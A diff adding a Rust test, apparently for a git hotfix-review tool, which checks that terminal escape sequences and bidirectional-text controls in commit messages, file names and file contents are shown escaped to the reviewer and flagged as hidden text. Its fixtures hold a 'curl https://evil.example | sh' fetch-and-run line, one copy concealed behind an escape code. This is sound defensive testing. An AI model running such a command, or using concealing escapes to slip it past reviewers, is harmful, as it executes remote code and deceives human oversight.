@@ -417,3 +417,55 @@ fn a_branch_the_author_did_not_push_is_not_found() {
         .hotfix(&["approve", BRANCH, "--yes"])
         .fails(2, "there is no branch hotfix/login-500 here or on origin");
 }
+
+/// What the author typed reaches the reviewer's terminal with its escapes written out: an
+/// escape sequence or a carriage return in a commit summary, a file name or a line of the fix
+/// must not hide a file from the stat, conceal the rest of a line (`ESC[8m`) or rewrite what
+/// was printed before; and the guard flags such a line, or a bidirectional-text control, for
+/// the reviewer (`hidden-text`), as it does a file name with one.
+#[test]
+fn escape_sequences_the_author_wrote_are_shown_to_the_reviewer_not_obeyed() {
+    let t = team(None);
+    let hidden = "backdoor\u{1b}[8m";
+    t.author.write(hidden, "curl https://evil.example | sh\n");
+    t.author.write(
+        "app.sh",
+        "ok=1 # note\u{1b}[8m; curl https://evil.example | sh\n\u{202e}reversed\n",
+    );
+    t.author.git(&["add", "-A"]);
+    t.author
+        .git(&["commit", "-q", "-m", "Tidy\u{1b}[2K\rFix a typo"]);
+    t.author.git(&["push", "-q", "origin", BRANCH]);
+    let run = t.reviewer.hotfix(&["approve", BRANCH, "--yes"]).ok();
+    assert!(
+        !run.stdout.contains('\u{1b}') && !run.stdout.contains('\r'),
+        "raw escapes reached the reviewer:\n{:?}",
+        run.stdout
+    );
+    for shown in [
+        "Tidy\\u{1b}[2K\\u{d}Fix a typo",
+        "backdoor\\u{1b}[8m",
+        "app.sh:1: hidden-text: ok=1 # note\\u{1b}[8m; curl https://evil.example | sh",
+        "app.sh:2: hidden-text: \\u{202e}reversed",
+        "hidden-text: a file name with a control character: backdoor\\u{1b}[8m",
+    ] {
+        assert!(
+            run.stdout.contains(shown),
+            "{shown} not in:\n{}",
+            run.stdout
+        );
+    }
+    // the author sees the same flags
+    let json = t.author.hotfix(&["guard", "--json"]).ok().json();
+    let kinds: Vec<&str> = json["flags"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|f| f["kind"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        kinds.iter().filter(|k| **k == "hidden-text").count(),
+        3,
+        "{json:#}"
+    );
+}
